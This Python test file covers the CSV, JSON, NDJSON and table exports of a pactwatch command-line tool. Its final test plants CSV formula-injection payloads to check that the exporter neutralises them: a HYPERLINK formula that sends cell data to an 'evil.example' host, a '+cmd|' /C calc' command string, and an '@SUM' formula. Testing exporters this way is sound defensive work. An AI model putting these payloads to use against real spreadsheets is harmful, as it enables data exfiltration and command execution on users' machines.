"""``pactwatch partnerships`` / ``events`` exports: streamed, stable columns, easy to load into pandas."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import pytest
import sqlite_utils
from analyst_db import build
from click.testing import CliRunner

from pipeline.cli import cli
from pipeline.cli.output import render
from pipeline.cli.query import EVENT_FIELDS, PARTNERSHIP_FIELDS
from pipeline.config import Settings


def _export(settings: Settings, command: str, fmt: str, *args: str) -> str:
    result = CliRunner().invoke(cli, [command, "--db", str(settings.database.path), "--format", fmt, *args])
    assert result.exit_code == 0, result.output
    return result.output


@pytest.mark.parametrize("fmt", ["json", "ndjson", "csv"])
def test_machine_formats_stream_row_by_row(fmt: str) -> None:
    out = io.StringIO()

    def rows() -> Iterator[dict]:
        for i in range(3):
            if i:  # the previous row must already be written when the next one is asked for
                assert f"row-{i - 1}" in out.getvalue()
            yield {"id": i, "name": f"row-{i}", "participants": ["EU", "JPN"]}

    assert render(rows(), fmt, ["id", "name", "participants"], out) == 3


def test_partnerships_csv_has_every_field_and_pipe_joined_participants(settings: Settings,
                                                                       db: sqlite_utils.Database) -> None:
    build(db)
    rows = list(csv.DictReader(io.StringIO(_export(settings, "partnerships", "csv"))))
    assert list(rows[0]) == PARTNERSHIP_FIELDS
    japan = next(r for r in rows if r["participants"] == "EU|JPN")
    assert (japan["status"], japan["mentions"], japan["first_reported"]) == ("in_force", "2", "2019-01-15")
    assert [r["participants"] for r in csv.DictReader(io.StringIO(_export(settings, "partnerships", "csv",
                                                                            "--country", "IND")))] == ["EU|IND"]


def test_empty_exports_keep_their_shape(settings: Settings, db: sqlite_utils.Database) -> None:
    assert _export(settings, "partnerships", "csv").strip() == ",".join(PARTNERSHIP_FIELDS)
    assert _export(settings, "events", "csv").strip() == ",".join(EVENT_FIELDS)
    assert json.loads(_export(settings, "partnerships", "json")) == []
    assert _export(settings, "events", "ndjson") == ""


def test_json_and_ndjson_follow_the_contract(settings: Settings, db: sqlite_utils.Database) -> None:
    build(db)
    partnerships = json.loads(_export(settings, "partnerships", "json"))
    assert {"id", "type", "status", "participants", "instrument", "first_seen", "last_seen", "mentions",
            "sources"} <= set(partnerships[0])
    assert sorted(p["participants"] for p in partnerships) == [["EU", "IND"], ["EU", "JPN"], ["EU", "KOR"],
                                                               ["JPN", "KOR"]]
    lines = _export(settings, "events", "ndjson").splitlines()
    events = [json.loads(line) for line in lines]
    assert len(events) == 6
    negated = [e for e in events if e["negated"]]
    assert len(negated) == 1 and negated[0]["article_url"] == "http://news.example.org/korea-digital"
    assert all(set(EVENT_FIELDS) <= set(e) for e in events)
    csv_rows = list(csv.DictReader(io.StringIO(_export(settings, "events", "csv", "--negated"))))
    assert [(r["participants"], r["negated"]) for r in csv_rows] == [("EU|USA", "True")]


def test_table_keeps_one_line_per_row_when_a_cell_holds_line_breaks() -> None:
    out = io.StringIO()
    rows = [{"id": 1, "snippet": "EU and Japan sign [Digital] [Partnership]\nBrussels,\t3 November"}]
    assert render(rows, "table", ["id", "snippet"], out) == 1
    lines = out.getvalue().splitlines()
    assert len(lines) == 3, lines
    assert lines[2].endswith("[Digital] [Partnership] Brussels, 3 November")


@pytest.mark.parametrize(("value", "expected"), [
    ("2026-11-01", "2026-11-01T00:00:00Z"),
    ("2026-11-01T10:00:00+02:00", "2026-11-01T08:00:00Z"),
    ("2026-11-01T10:00Z", "2026-11-01T10:00:00Z"),
    ("", None),
], ids=["date", "offset", "zulu", "empty"])
def test_since_bounds_are_utc_iso(value: str, expected: str | None) -> None:
    from pipeline.cli.common import parse_since

    assert parse_since(value) == expected


def test_since_rejects_what_it_cannot_read() -> None:
    import click

    from pipeline.cli.common import parse_since

    with pytest.raises(click.BadParameter, match="expected like 7d"):
        parse_since("last tuesday")


def test_csv_neutralises_formulas_in_a_real_process(settings: Settings, db: sqlite_utils.Database) -> None:
    import subprocess
    import sys

    from analyst_db import add_article, event

    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    add_article(db, "http://news.example.org/formula", title, "The EU and Japan signed a pact.",
                [event(("EU", "JPN"), "agreement", "signed", "+cmd|' /C calc'!A0", "@SUM(1+1) the EU and Japan")])
    db.close()
    result = subprocess.run([sys.executable, "-m", "pipeline", "events", "--db", str(settings.database.path),
                             "--format", "csv"], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["article_title"] == "'" + title
    assert row["instrument"] == "'+cmd|' /C calc'!A0"
    assert row["evidence"] == "'@SUM(1+1) the EU and Japan"
    assert row["participants"] == "EU|JPN" and row["confidence"] == "0.9"
    assert not [cell for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
